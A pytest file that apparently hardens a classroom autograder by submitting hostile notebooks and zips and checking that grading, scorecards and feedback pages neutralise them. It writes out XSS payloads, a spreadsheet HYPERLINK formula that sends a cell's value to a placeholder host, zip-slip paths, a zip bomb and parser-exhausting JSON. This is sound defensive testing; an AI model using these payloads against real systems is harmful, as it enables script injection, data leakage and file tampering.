"""Hand-ins that are attacks as files, before any of their code runs: the whole way from collecting to the pages."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from grading import autograde, marking, results
from grading.classroom.folder import Classroom
from grading.demo import students as kinds
from grading.demo.students import Desk, Part, hand_in
from grading.runner import Limits, sandbox_available

pytestmark = pytest.mark.xdist_group("odd")
ASSIGNMENT, TEXT = "prospecting", "recommendation"
SCRIPT = "<script>window.ran = 1</script><img src=x onerror=alert(1)> [x](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"click")'
LIMITS = Limits(cell_seconds=8, wall_seconds=25)


def _cells(book: dict[str, Any], *sources: str) -> None:
    book["cells"][1:1] = [
        {"cell_type": "code", "metadata": {}, "source": s, "outputs": [], "execution_count": None, "id": f"x{n}"}
        for n, s in enumerate(sources)
    ]


def many_cells(book: dict[str, Any]) -> None:
    _cells(book, *(f"{n} + 1" for n in range(2_000)))


def a_cell_of_a_megabyte(book: dict[str, Any]) -> None:
    _cells(book, "x = '" + "a" * 1_000_000 + "'", "# " + "客" * 400_000)


def widget_state_bomb(book: dict[str, Any]) -> None:
    state = {f"{n:032x}": {"model_name": "HTMLModel", "state": {"value": SCRIPT * 20}} for n in range(3_000)}
    book["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2}}


def surrogates(book: dict[str, Any]) -> None:
    _cells(book, "s = '\ud800'", "print('\\ud800')")


def scripts_in_the_notebook(book: dict[str, Any]) -> None:
    book["cells"].insert(0, {"cell_type": "markdown", "metadata": {"tags": [SCRIPT]}, "source": SCRIPT, "id": "a"})
    book["cells"][1]["attachments"] = {"x.svg": {"image/svg+xml": SCRIPT}}
    book["metadata"]["title"] = SCRIPT


BOOKS = {
    one.__name__: one
    for one in (many_cells, a_cell_of_a_megabyte, widget_state_bomb, surrogates, scripts_in_the_notebook)
}
REFUSED = {
    "deep_json": b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "endless_number": b"[" + b"9" * 2_000_000,
}


def repacked(data: bytes, change: Any = None, more: dict[str, bytes] | None = None) -> bytes:
    """A hand-in's zip with a changed notebook, or with other files."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            body = old.read(name)
            if name.endswith(".ipynb") and change is not None:
                book = json.loads(body)
                change(book)
                body = json.dumps(book).encode()
            if name not in (more or {}):
                new.writestr(name, body)
        for name, body in (more or {}).items():
            new.writestr(name, body)
    return out.getvalue()


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> tuple[Classroom, dict[str, marking.Marking], Path]:
    able, why = sandbox_available()
    if not able:
        pytest.skip(why)
    folder = tmp_path_factory.mktemp("odd")
    names = ["honest", *BOOKS, *REFUSED, "zip_slip", "zip_bomb", "odd_answers", "formula_in_name", "script_in_text"]
    shown = {"formula_in_name": FORMULA, "script_in_text": "<b onclick=alert(1)>Ann</b>"}
    roster = pd.DataFrame({"student_id": [f"S{n:02d}" for n in range(len(names))], "name": names, "team": "T1"})
    roster["name"] = [shown.get(name, name) for name in names]
    roster.to_csv(folder / "roster.csv", index=False)
    room = Classroom.create(folder / "class", name="odd", language="en", roster=folder / "roster.csv", secret=b"odd")
    handouts = autograde.release(room, ASSIGNMENT)
    grader = autograde.Grader(room, ASSIGNMENT)
    world = grader.worlds[room.variant_of("S00", ASSIGNMENT)]
    right = {q.id: grader.book.key(q, world) for q in grader.questions if q.kind != "text"}

    def act(desk: Desk, part: Part) -> None:
        desk.fill_forms({**part.right, TEXT: text})

    for number, name in enumerate(names):
        text = {"script_in_text": SCRIPT * 3, "formula_in_name": FORMULA}.get(name, "Court the small account. " * 4)
        kinds.KINDS["under test"] = act
        try:
            packed = hand_in(handouts[f"S{number:02d}"], ASSIGNMENT, Part("under test", right))
        finally:
            del kinds.KINDS["under test"]
        assert packed is not None
        if name in BOOKS:
            packed = repacked(packed, BOOKS[name])
        elif name in REFUSED:
            packed = repacked(packed, more={f"{ASSIGNMENT}.ipynb": REFUSED[name], "answers.json": b"{}"})
        elif name == "zip_slip":
            packed = repacked(
                packed, more={"../../../slipped.txt": b"x", "/tmp/slipped.txt": b"x", "..\\slipped": b"x"}
            )
        elif name == "zip_bomb":
            packed = repacked(packed, more={"zeros.bin": bytes(600_000_000)})
        elif name == "odd_answers":
            strange = {q: v for q, v in zip(right, (float("nan"), 10**400, -(10**30), float("inf")), strict=False)}
            body = json.dumps({"format": 1, "answers": strange}).encode()
            packed = repacked(packed, lambda book: None, {"answers.json": body})
        target = folder / "inbox" / f"S{number:02d}.zip"
        target.parent.mkdir(exist_ok=True)
        target.write_bytes(packed)
    autograde.collect(room, ASSIGNMENT, folder / "inbox")
    autograde.autograde(room, ASSIGNMENT, limits=LIMITS)
    loaded = {name: marking.load(room, ASSIGNMENT, f"S{n:02d}") for n, name in enumerate(names)}
    assert all(loaded.values())
    return room, {name: one for name, one in loaded.items() if one is not None}, folder


@pytest.mark.parametrize("name", ["honest", *BOOKS, "formula_in_name", "script_in_text"])
def test_right_answers_keep_their_points(graded: tuple[Any, Any, Any], name: str) -> None:
    made = graded[1][name]
    assert made.status == "graded", made
    missed = {q: o.status for q, o in made.outcomes.items() if o.points != o.max_points and o.status != "pending"}
    assert not missed


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_read_is_ungraded_with_a_reason(graded: tuple[Any, Any, Any], name: str) -> None:
    made = graded[1][name]
    assert made.status == "ungraded" and made.reasons and made.outcomes == {}


def test_archives_put_nothing_elsewhere(graded: tuple[Any, Any, Any]) -> None:
    room, made, folder = graded
    assert not list(folder.rglob("slipped*")) and not Path("/tmp/slipped.txt").exists()
    assert made["zip_slip"].status in ("graded", "ungraded", "not_handed_in")
    assert made["zip_bomb"].status in ("graded", "ungraded", "not_handed_in")
    assert sum(file.stat().st_size for file in (room.root / "submitted").rglob("*") if file.is_file()) < 100_000_000


def test_odd_numbers_earn_nothing(graded: tuple[Any, Any, Any]) -> None:
    made = graded[1]["odd_answers"]
    assert made.status == "graded" and not any(o.points for o in made.outcomes.values() if o.status != "right")
    json.dumps(made.values, allow_nan=False)


def test_what_the_teacher_opens_is_small_and_runs_nothing(graded: tuple[Any, Any, Any]) -> None:
    room, _, _ = graded
    for path in (room.root / "autograded").rglob("*.ipynb"):
        assert path.stat().st_size < 30_000_000
        book = json.loads(path.read_text(encoding="utf-8"))
        assert "widgets" not in book["metadata"] and SCRIPT not in json.dumps(book["metadata"])
        for cell in book["cells"]:
            assert "attachments" not in cell and set(cell["metadata"]) <= {"nbgrader", "deletable", "editable"}
            if cell["cell_type"] == "markdown":
                assert "<script" not in "".join(cell["source"])
    sheet = openpyxl.load_workbook(room.root / "scorecards" / f"{ASSIGNMENT}.xlsx")
    assert not [
        c.value for page in sheet for row in page for c in row if c.data_type == "f" and "HYPERLINK" in str(c.value)
    ]
    results.feedback(room, ASSIGNMENT)
    for page in room.feedback.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script>window.ran" not in text and "<img src=x" not in text and "<b onclick" not in text
